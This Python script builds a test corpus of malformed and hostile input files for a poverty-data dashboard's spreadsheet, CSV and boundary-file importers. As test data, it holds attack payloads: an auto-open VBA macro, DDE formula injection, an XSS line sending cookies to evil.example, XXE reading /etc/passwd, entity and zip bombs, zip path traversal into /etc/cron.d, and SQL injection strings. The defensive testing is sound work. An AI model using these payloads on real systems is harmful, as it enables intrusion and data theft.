"""Rebuild the small committed files of the bad-input corpus (``tests/corpus/``).

The committed files are the corpus; this script only records how each was made, so that a
file can be rebuilt or a new one added the same way.  Run from the repository root::

    .venv/bin/python tests/corpus/make_corpus.py            # every file
    .venv/bin/python tests/corpus/make_corpus.py co_macro.xlsm ...

Two files need a tool the project does not: ``co_mat_khau.xlsx`` (``msoffcrypto-tool``, to
encrypt a workbook the way Excel does) and ``zip_mat_khau.zip`` (the ``zip`` command, for
a ZipCrypto password); without them those two are left as they are.  Large cases (a million
CSV rows, a one-million-vertex polygon, gigabyte zip bombs) are never committed: see
``make_large.py``, which the test runs into a temporary folder.

Everything is built from the embedded demo and the unit registry (Lạng Sơn, code 20);
zip timestamps are fixed so that a rebuild gives the same bytes where the tools allow.
"""
from __future__ import annotations

import io
import json
import shutil
import stat
import struct
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parents[1]), str(HERE.parent)]

import geopandas as gpd  # noqa: E402
import shapely  # noqa: E402

from import_fixtures import demo_rows, official_workbook  # noqa: E402
from official_forms import review_form_xlsx  # noqa: E402
from povdata.units import legacy_units  # noqa: E402
from povdata.vnenc import encode_text  # noqa: E402

DATE = (2024, 1, 1, 0, 0, 0)
HEADER = "Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo"


# ---- helpers -----------------------------------------------------------------------------------
def zip_bytes(members: list[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of (name or ZipInfo, bytes), fixed timestamps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, DATE)
            info.compress_type = method
            zf.writestr(info, data)
    return buf.getvalue()


def rezip(data: bytes, edit: dict | None = None, add: dict | None = None) -> bytes:
    """A zip (an .xlsx) with some members changed (name → function of the bytes) or added."""
    src = zipfile.ZipFile(io.BytesIO(data))
    members = []
    for info in src.infolist():
        b = src.read(info.filename)
        if edit and info.filename in edit:
            b = edit[info.filename](b)
        members.append((info.filename, b))
    members += list((add or {}).items())
    return zip_bytes(members)


def rows_2023() -> list[list[str]]:
    """The demo's 2023 rows of Thành phố Lạng Sơn (8 communes): code, name, year, counts."""
    d = demo_rows(2023, districts=["178"])
    return [[r.unit_code, r.name, "2023", str(int(r.households_total)), str(int(r.poor_households)),
             str(int(r.near_poor_households))] for r in d.itertuples()]


def csv_text(rows: list[list[str]], header: str = HEADER) -> str:
    return "\n".join([header, *(",".join(r) for r in rows)]) + "\n"


def workbook() -> bytes:
    """A clean official-style workbook (title block, merged two-row header, 2023, one district)."""
    return rezip(official_workbook(2023, districts=["178"]))


def districts() -> gpd.GeoDataFrame:
    """Lạng Sơn's 11 districts as small squares round their registry points, codes and names."""
    d = legacy_units("20").query("level == 'district'").reset_index(drop=True)
    boxes = [shapely.box(lon - 0.04, lat - 0.04, lon + 0.04, lat + 0.04) for lon, lat in zip(d["lon"], d["lat"])]
    return gpd.GeoDataFrame({"MA": d["code"], "TEN": d["name"]}, geometry=boxes, crs="EPSG:4326")


def shapefile_parts(gdf: gpd.GeoDataFrame, stem: str = "huyen") -> dict[str, bytes]:
    with tempfile.TemporaryDirectory() as tmp:
        gdf.to_file(Path(tmp) / f"{stem}.shp", driver="ESRI Shapefile", engine="pyogrio")
        return {p.name: p.read_bytes() for p in sorted(Path(tmp).iterdir()) if p.suffix != ".cpg"}


def shapefile_zip(parts: dict[str, bytes]) -> bytes:
    return zip_bytes(sorted(parts.items()))


def geojson(gdf: gpd.GeoDataFrame) -> bytes:
    return gdf.to_json(ensure_ascii=False).encode("utf-8")


# ---- indicator files -----------------------------------------------------------------------------
def truncated_workbook() -> bytes:
    data = workbook()
    return data[: len(data) // 2]


def password_workbook() -> bytes | None:
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        return None
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook())).encrypt("matkhau123", out)
    return out.getvalue()


def ole_workbook() -> bytes | None:
    """A compound file like an Excel 97-2003 .xls (the encrypted workbook with its streams renamed)."""
    path = HERE / "co_mat_khau.xlsx"
    if not path.exists():
        return None
    data = path.read_bytes()
    for old, new in (("EncryptedPackage", "WorkbookContents"), ("EncryptionInfo", "SummaryInfo000")):
        data = data.replace(old.encode("utf-16-le"), new.encode("utf-16-le"))  # same length: the file stays whole
    return data


def zip_bomb_workbook() -> bytes:
    """A real workbook whose sheet XML repeats one data row 600,000 times (43 MB unpacked, ~140 KB
    packed): opened, openpyxl would make 1.2 million cell objects."""
    row = b'<row><c t="inlineStr"><is><t>05971</t></is></c><c><v>1</v></c></row>'

    def pad(b: bytes) -> bytes:
        return b.replace(b"</sheetData>", row * 600_000 + b"</sheetData>")
    return rezip(workbook(), {"xl/worksheets/sheet1.xml": pad})


def macro_workbook() -> bytes:
    """The clean workbook as .xlsm with a VBA project part (an auto-open macro's container)."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 24 + b"Attribute VB_Name = \"ThisWorkbook\"\r\n" \
        b"Sub Workbook_Open()\r\n    Shell \"cmd /c calc.exe\"\r\nEnd Sub\r\n"

    def ctypes(b: bytes) -> bytes:
        return b.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                         b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')

    def rels(b: bytes) -> bytes:
        return b.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/'
                         b'2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    return rezip(workbook(), {"[Content_Types].xml": ctypes, "xl/_rels/workbook.xml.rels": rels},
                 {"xl/vbaProject.bin": vba})


def pdf_as_xlsx() -> bytes:
    return (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] "
            b"/Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")


def ods_as_xlsx() -> bytes:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="So lieu"><table:table-row><table:table-cell><text:p>Mã đơn vị</text:p>'
               '</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>'
               '</office:document-content>').encode()
    return zip_bytes([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", content)],
                     zipfile.ZIP_STORED)


def far_cell_workbook() -> bytes:
    def far(b: bytes) -> bytes:
        return b.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
                                          b'</c></row></sheetData>')
    return rezip(workbook(), {"xl/worksheets/sheet1.xml": far})


def merge_bomb_workbook() -> bytes:
    return rezip(workbook(), {"xl/worksheets/sheet1.xml": lambda b: b.replace(
        b'<mergeCell ref="A3:H3"/>', b'<mergeCell ref="A3:XFD1048576"/>')})


_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "lol">'
           + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), b"".join(b"&%s;" % bytes([97 + i]) for _ in range(10)))
                      for i in range(8))
           + b"]>")


def billion_laughs_workbook() -> bytes:
    return rezip(workbook(), {"xl/worksheets/sheet1.xml": lambda b: _LAUGHS + b.replace(b"UBND", b"&i;", 1)})


def xxe_workbook() -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return rezip(workbook(), {"xl/worksheets/sheet1.xml": lambda b: head + b.replace(b"UBND", b"&xxe;", 1)})


def chart_first_workbook() -> bytes:
    from openpyxl import load_workbook
    from openpyxl.chart import BarChart, Reference

    wb = load_workbook(io.BytesIO(workbook()))
    ws = wb.worksheets[0]
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=4, min_row=8, max_row=16))
    wb.create_chartsheet("Bieu do", 0).add_chart(chart)
    buf = io.BytesIO()
    wb.save(buf)
    return rezip(buf.getvalue())


def formula_text_workbook() -> bytes:
    """Codes and numbers as usual; names written as formulas and formula-like text, a real
    formula (no cached value) in the notes column."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "So lieu"
    ws.append(["Mã đơn vị", "Tên đơn vị", "Năm", "Tổng số hộ", "Số hộ nghèo", "Ghi chú"])
    names = ['=HYPERLINK("http://example.invalid/?x="&A2,"Bấm vào đây")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+84 912 345 678", "-2+3+cmd|' /C calc'!A0"]
    for r, name in zip(rows_2023(), names):
        ws.append([r[0], name, 2023, int(r[3]), int(r[4]), "=1+1"])
        ws.cell(ws.max_row, 2).data_type = "s"  # the names are text that looks like formulas
    ws.cell(2, 2).value = names[0]
    ws.cell(2, 2).data_type = "f"  # … and the first one a real formula
    buf = io.BytesIO()
    wb.save(buf)
    return rezip(buf.getvalue())


def csv_nul() -> bytes:
    text = csv_text(rows_2023()[:3]).encode("utf-8")
    return text.replace(b"Tam Thanh", b"Tam\x00Th\x00anh")


def csv_utf16() -> bytes:
    """Excel's 'Unicode text': UTF-16 LE with a byte-order mark, tab-separated, CRLF."""
    text = csv_text([r for r in rows_2023()], HEADER).replace(",", "\t").replace("\n", "\r\n")
    return text.encode("utf-16")


def csv_mixed_utf8_first() -> bytes:
    rows = rows_2023()
    head = csv_text(rows[:3]).encode("utf-8")
    tail = encode_text("\n".join(",".join(r) for r in rows[3:]) + "\n", "tcvn3")
    return head + tail


def csv_mixed_legacy_first() -> bytes:
    rows = rows_2023()
    head = encode_text(csv_text(rows[:4]), "vni")
    tail = ("\n".join(",".join(r) for r in rows[4:]) + "\n").encode("utf-8")
    return head + tail


def csv_bom_but_legacy() -> bytes:
    return b"\xef\xbb\xbf" + encode_text(csv_text(rows_2023()[:3]), "cp1258")


def csv_unclosed_quote() -> bytes:
    rows = rows_2023()
    rows[1][1] = '"Phường Tam Thanh'
    return csv_text(rows).encode()


def csv_huge_cell() -> bytes:
    rows = rows_2023()[:2]
    rows[1][1] = '"' + "Phường Tam Thanh " * 8_000 + '"'
    return csv_text(rows).encode()


def csv_too_many_columns() -> bytes:
    rows = rows_2023()[:2]
    rows[1] = rows[1] + ["0"] * 20_000
    return csv_text(rows).encode()


def csv_duplicate_headers() -> bytes:
    rows = [r + [str(int(r[4]) + 1)] for r in rows_2023()]
    return csv_text(rows, HEADER + ",Số hộ nghèo").encode()


def csv_no_header() -> bytes:
    return "\n".join(",".join(r) for r in rows_2023()).encode() + b"\n"


def csv_header_only() -> bytes:
    return (HEADER + "\n").encode()


def csv_bom_only() -> bytes:
    return b"\xef\xbb\xbf\r\n\r\n  \r\n"


def csv_cr_line_ends() -> bytes:
    return csv_text(rows_2023()).replace("\n", "\r").encode()


def csv_odd_numbers() -> bytes:
    rows = rows_2023()[:4]
    rows[0][3], rows[1][4], rows[2][3], rows[3][5] = "1e400", "NaN", "-0x10", "∞"
    return csv_text(rows).encode()


def csv_formula_in_count() -> bytes:
    rows = rows_2023()[:3]
    rows[1][4] = "=1+1"
    rows[2][4] = '=cmd|" /C calc"!A0'
    return csv_text(rows).encode()


def csv_html_names_with_codes() -> bytes:
    rows = rows_2023()[:3]
    rows[0][1] = "<script>alert('xss')</script>"
    rows[1][1] = '<img src=x onerror="alert(1)">'
    rows[2][1] = "**đậm** [liên kết](javascript:alert(1)) $x^2$"
    return csv_text(rows).encode()


def csv_html_name_no_code() -> bytes:
    rows = rows_2023()[:2]
    rows[1][0], rows[1][1] = "", "<script>document.location='http://evil.example/'+document.cookie</script>"
    return csv_text(rows).encode()


def csv_long_name() -> bytes:
    rows = rows_2023()[:2]
    rows[1][0], rows[1][1] = "", ("Xã " + "Rất Dài " * 1300)[:10_000]
    return csv_text(rows).encode()


def csv_long_header() -> bytes:
    rows = [r + ["x"] for r in rows_2023()]
    return csv_text(rows, HEADER + "," + ("Ghi chú " * 1300)[:10_000]).encode()


def csv_control_characters() -> bytes:
    """Names with control characters (vertical tab, unit separator, escape) and no code: the
    report quotes them, and its XLSX download must still be written."""
    rows = rows_2023()[:3]
    rows[1][0], rows[1][1] = "", "Xã\x0bMai\x1fPha\x1b[31m"
    rows[2][0], rows[2][1] = "", "\x07\x08Phường Tam Thanh"
    return csv_text(rows).encode()


def png_as_csv() -> bytes:
    import zlib
    raw = b"\x00\xff\x00\x00" * 4
    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def xlsx_as_csv() -> bytes:
    return workbook()


# ---- boundary files ------------------------------------------------------------------------------
def shp_without(ext: str) -> bytes:
    return shapefile_zip({k: v for k, v in shapefile_parts(districts()).items() if not k.endswith(ext)})


def shp_dbf_from(n: int) -> bytes:
    """The 11 districts' .shp/.shx with the .dbf of ``n`` features (8: the last three districts
    have no attributes; 12: one record more than shapes)."""
    parts = shapefile_parts(districts())
    g = districts()
    other = g.iloc[:n] if n <= len(g) else gpd.GeoDataFrame(
        gpd.pd.concat([g, g.iloc[[0]]], ignore_index=True), crs=g.crs)
    parts["huyen.dbf"] = shapefile_parts(other)["huyen.dbf"]
    return shapefile_zip(parts)


def shp_truncated() -> bytes:
    parts = shapefile_parts(districts())
    parts["huyen.shp"] = parts["huyen.shp"][:-300]
    return shapefile_zip(parts)


def self_intersecting() -> bytes:
    g = districts()
    x0, y0, x1, y1 = g.geometry.iloc[2].bounds
    g.loc[2, "geometry"] = shapely.Polygon([(x0, y0), (x1, y1), (x1, y0), (x0, y1)])  # a bow-tie
    return geojson(g)


def empty_geometries() -> bytes:
    fc = json.loads(geojson(districts()))
    fc["features"][3]["geometry"] = None
    fc["features"][4]["geometry"] = {"type": "Polygon", "coordinates": []}
    return json.dumps(fc, ensure_ascii=False).encode()


def no_features() -> bytes:
    return b'{"type": "FeatureCollection", "features": []}'


def swapped_lat_lon() -> bytes:
    g = districts()
    g["geometry"] = shapely.transform(g.geometry.to_numpy(), lambda c: c[:, ::-1])
    return geojson(g)


def absurd_coordinates() -> bytes:
    fc = json.loads(geojson(districts()))
    fc["features"][0]["geometry"]["coordinates"][0][1] = [1e300, -1e300]
    return json.dumps(fc, ensure_ascii=False).encode()


def points() -> bytes:
    d = legacy_units("20").query("level == 'district'")
    g = gpd.GeoDataFrame({"TEN": d["name"]}, geometry=gpd.points_from_xy(d["lon"], d["lat"]), crs="EPSG:4326")
    return geojson(g)


def _member(name: str, data: bytes, mode: int | None = None) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name, DATE)
    if mode is not None:
        info.external_attr = mode << 16
    return info, data


def zip_with(name: str) -> bytes:
    parts = shapefile_parts(districts())
    return zip_bytes([(k, v) for k, v in sorted(parts.items())] + [(name, b"* * * * * root touch /tmp/pwned\n")])


def zip_symlink() -> bytes:
    parts = shapefile_parts(districts())
    return zip_bytes([(k, v) for k, v in sorted(parts.items())]
                     + [_member("huyen.cpg", b"/etc/passwd", stat.S_IFLNK | 0o777)])


def nested_zip() -> bytes:
    inner = shapefile_zip(shapefile_parts(districts()))
    return zip_bytes([("ranh_gioi/huyen.zip", inner), ("doc_truoc.txt", "Giải nén tệp bên trong.".encode())])


def password_zip() -> bytes | None:
    if not shutil.which("zip"):
        return None
    with tempfile.TemporaryDirectory() as tmp:
        for k, v in shapefile_parts(districts()).items():
            (Path(tmp) / k).write_bytes(v)
        subprocess.run(["zip", "-q", "-X", "-P", "matkhau123", "out.zip", *sorted(p.name for p in Path(tmp).iterdir())],
                       cwd=tmp, check=True)
        return (Path(tmp) / "out.zip").read_bytes()


def zip_bad_crc() -> bytes:
    """A whole shapefile zip whose .dbf data has one byte changed (the CRC no longer matches)."""
    data = bytearray(shapefile_zip(shapefile_parts(districts())))
    z = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = z.getinfo("huyen.dbf")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0x55
    return bytes(data)


def zip_bomb() -> bytes:
    """A shapefile whose .dbf is 120 MB of zeros (~120 KB packed)."""
    parts = shapefile_parts(districts())
    parts["huyen.dbf"] = parts["huyen.dbf"] + b"\0" * 120_000_000
    return zip_bytes(sorted(parts.items()))


def truncated_zip() -> bytes:
    data = shapefile_zip(shapefile_parts(districts()))
    return data[: len(data) * 2 // 3]


def html_names_with_codes() -> bytes:
    g = districts()
    g["TEN"] = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<b>đậm</b>",
                "[liên kết](javascript:alert(1))", "<iframe src='http://example.invalid'>", "&lt;&amp;&gt;",
                "<svg onload=alert(1)>", "{{7*7}}", "${7*7}", "'; DROP TABLE versions; --", "\u202eHuyện"]
    return geojson(g)


def _tiny(g: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    """Squares too small to hold a registry point: no match by location."""
    g = g.copy()
    b = g.geometry.bounds
    g["geometry"] = [shapely.box(x + 0.05, y + 0.05, x + 0.051, y + 0.051) for x, y in zip(b["minx"], b["miny"])]
    return g


def html_names_no_code() -> bytes:
    g = _tiny(districts().drop(columns="MA"))
    g.loc[3, "TEN"] = "<script>alert(document.cookie)</script>"
    return geojson(g)


def formula_names_with_codes() -> bytes:
    g = districts()
    g.loc[0, "TEN"] = '=HYPERLINK("http://example.invalid","Bấm")'
    g.loc[1, "TEN"] = "@SUM(1+1)"
    g.loc[2, "TEN"] = "+84 912 345 678"
    g.loc[3, "TEN"] = "-1+cmd|' /C calc'!A0"
    return geojson(g)


def long_names_no_code() -> bytes:
    g = _tiny(districts().drop(columns="MA"))
    g.loc[5, "TEN"] = ("Huyện " + "Rất Dài " * 1300)[:10_000]
    return geojson(g)


def deep_json() -> bytes:
    return b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": ' \
           b'{"type": "Polygon", "coordinates": ' + b"[" * 50_000 + b"]" * 50_000 + b"}}]}"


def kml_as_geojson() -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark>'
            '<name>Huyện Cao Lộc</name><Polygon><outerBoundaryIs><LinearRing><coordinates>106.8,21.9 106.9,21.9 '
            '106.9,22.0 106.8,21.9</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark></kml>').encode()


def crs_link() -> bytes:
    """A GeoJSON whose old-style 'crs' is a link (GDAL would fetch it; port 9 is 'discard')."""
    fc = json.loads(geojson(districts()))
    fc["crs"] = {"type": "link", "properties": {"href": "http://127.0.0.1:9/crs.wkt", "type": "ogcwkt"}}
    return json.dumps(fc, ensure_ascii=False).encode()


def vrt_as_geojson() -> bytes:
    """An OGR VRT (GDAL's XML that points at other data sources) named .geojson."""
    return ('<OGRVRTDataSource><OGRVRTLayer name="passwd"><SrcDataSource>/etc/passwd</SrcDataSource>'
            '<GeometryType>wkbNone</GeometryType></OGRVRTLayer><OGRVRTLayer name="web"><SrcDataSource>'
            '/vsicurl/http://127.0.0.1:9/ranh_gioi.geojson</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>').encode()


def sqlite_as_gpkg() -> bytes:
    """A plain SQLite database (no GeoPackage id) named .gpkg, with a table of names."""
    import sqlite3
    with tempfile.TemporaryDirectory() as tmp:
        con = sqlite3.connect(Path(tmp) / "x.db")
        con.execute("CREATE TABLE huyen (ma TEXT, ten TEXT, wkt TEXT)")
        con.executemany("INSERT INTO huyen VALUES (?, ?, ?)", [(r.MA, r.TEN, r.geometry.wkt) for r in
                                                                districts().itertuples()])
        con.commit()
        con.close()
        return (Path(tmp) / "x.db").read_bytes()


def truncated_gpkg() -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        districts().to_file(Path(tmp) / "huyen.gpkg", driver="GPKG", engine="pyogrio")
        data = (Path(tmp) / "huyen.gpkg").read_bytes()
    return data[: len(data) // 3]


BUILDERS = {
    # indicators
    "bang_tinh_cat_cut.xlsx": truncated_workbook,
    "co_mat_khau.xlsx": password_workbook,
    "excel_97_doi_duoi.xlsx": ole_workbook,
    "bom_nen.xlsx": zip_bomb_workbook,
    "co_macro.xlsm": macro_workbook,
    "tai_lieu_pdf.xlsx": pdf_as_xlsx,
    "bang_tinh_ods.xlsx": ods_as_xlsx,
    "o_xa_nhat.xlsx": far_cell_workbook,
    "gop_o_khong_lo.xlsx": merge_bomb_workbook,
    "thuc_the_xml_long_nhau.xlsx": billion_laughs_workbook,
    "thuc_the_xml_ngoai.xlsx": xxe_workbook,
    "bieu_do_truoc.xlsx": chart_first_workbook,
    "ten_cong_thuc.xlsx": formula_text_workbook,
    "ky_tu_nul.csv": csv_nul,
    "unicode_utf16.csv": csv_utf16,
    "tron_bang_ma_utf8_truoc.csv": csv_mixed_utf8_first,
    "tron_bang_ma_vni_truoc.csv": csv_mixed_legacy_first,
    "bom_utf8_noi_dung_cp1258.csv": csv_bom_but_legacy,
    "ngoac_kep_chua_dong.csv": csv_unclosed_quote,
    "o_qua_dai.csv": csv_huge_cell,
    "qua_nhieu_cot.csv": csv_too_many_columns,
    "trung_tieu_de.csv": csv_duplicate_headers,
    "khong_tieu_de.csv": csv_no_header,
    "chi_co_tieu_de.csv": csv_header_only,
    "rong.csv": lambda: b"",
    "chi_co_bom.csv": csv_bom_only,
    "xuong_dong_cr.csv": csv_cr_line_ends,
    "so_bat_thuong.csv": csv_odd_numbers,
    "cong_thuc_trong_so.csv": csv_formula_in_count,
    "ten_html_co_ma.csv": csv_html_names_with_codes,
    "ten_html_khong_ma.csv": csv_html_name_no_code,
    "ten_10000_ky_tu.csv": csv_long_name,
    "tieu_de_10000_ky_tu.csv": csv_long_header,
    "ky_tu_dieu_khien.csv": csv_control_characters,
    "anh_png.csv": png_as_csv,
    "bang_tinh_doi_duoi.csv": xlsx_as_csv,
    # the review's official forms (tests/official_forms.py): Tràng Định's communes, 2023
    "bieu_ra_soat_huyen.xlsx": lambda: review_form_xlsx("180", 2023)[0],
    "bieu_ra_soat_lech_can_doi.xlsx": lambda: review_form_xlsx("180", 2023, planted="06034")[0],
    "bieu_ra_soat_lech_tong_khu_vuc.xlsx": lambda: review_form_xlsx("180", 2023, wrong_subtotal=True)[0],
    "bieu_can_ngheo.xlsx": lambda: review_form_xlsx("180", 2023, near_poor=True)[0],
    "bieu_ra_soat_hai_trang.xlsx": lambda: review_form_xlsx("180", 2023, both=True)[0],
    # boundaries
    "thieu_shx.zip": lambda: shp_without(".shx"),
    "thieu_dbf.zip": lambda: shp_without(".dbf"),
    "thieu_prj.zip": lambda: shp_without(".prj"),
    "dbf_it_ban_ghi.zip": lambda: shp_dbf_from(8),
    "dbf_nhieu_ban_ghi.zip": lambda: shp_dbf_from(12),
    "shp_cat_cut.zip": shp_truncated,
    "tu_cat.geojson": self_intersecting,
    "hinh_rong.geojson": empty_geometries,
    "khong_doi_tuong.geojson": no_features,
    "dao_kinh_vi_do.geojson": swapped_lat_lon,
    "toa_do_vo_ly.geojson": absurd_coordinates,
    "diem.geojson": points,
    "duong_dan_cha.zip": lambda: zip_with("../../etc/cron.d/povdash"),
    "duong_dan_cha_windows.zip": lambda: zip_with("..\\..\\Windows\\Tasks\\povdash.job"),
    "duong_dan_tuyet_doi.zip": lambda: zip_with("/etc/cron.d/povdash"),
    "o_dia_windows.zip": lambda: zip_with("C:/Windows/Tasks/povdash.job"),
    "lien_ket_symlink.zip": zip_symlink,
    "zip_long_nhau.zip": nested_zip,
    "zip_mat_khau.zip": password_zip,
    "zip_hong_du_lieu.zip": zip_bad_crc,
    "bom_nen.zip": zip_bomb,
    "zip_cat_cut.zip": truncated_zip,
    "ten_html_co_ma.geojson": html_names_with_codes,
    "ten_html_khong_ma.geojson": html_names_no_code,
    "ten_cong_thuc.geojson": formula_names_with_codes,
    "ten_10000_ky_tu.geojson": long_names_no_code,
    "json_long_sau.geojson": deep_json,
    "kml_doi_duoi.geojson": kml_as_geojson,
    "gpkg_cat_cut.gpkg": truncated_gpkg,
    "crs_lien_ket.geojson": crs_link,
    "vrt_doi_duoi.geojson": vrt_as_geojson,
    "sqlite_doi_duoi.gpkg": sqlite_as_gpkg,
}


def main(names: list[str]) -> None:
    for name in names or list(BUILDERS):
        data = BUILDERS[name]()
        if data is None:
            print(f"{name}: tool missing, left as it is")
            continue
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data):,} bytes")


if __name__ == "__main__":
    main(sys.argv[1:])
